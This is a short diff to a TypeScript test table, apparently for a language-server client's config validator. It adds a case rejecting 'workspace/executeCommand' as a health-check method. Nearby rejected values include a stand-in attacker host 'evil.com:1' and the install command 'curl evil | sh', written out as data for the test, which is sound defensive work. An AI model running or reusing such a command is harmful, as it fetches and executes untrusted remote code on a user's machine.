@@ -292,6 +292,12 @@ const cases = new Map<string, Case>([
   of("transport", '"stdio"', '{ tcp = "evil.com:1" }', "stdio"),
   of("install", '"apt install x"', '"curl evil | sh"', "apt install x"),
   of("forward", "[]", '[{ notification = "n", to = "s", request = "r", reply = "p" }]', []),
+  of(
+    "check",
+    '{ method = "m", params = {}, within_ms = 1, pause_ms = 1 }',
+    '{ method = "workspace/executeCommand", params = {}, within_ms = 1, pause_ms = 1 }',
+    { method: "m", params: {}, within_ms: 1, pause_ms: 1 },
+  ),
   of("root_dir", "", '"/"', undefined),
   of("workspace_folders", "[]", '["/"]', []),
   of("idle_shutdown_ms", "1000", "0", 1000),
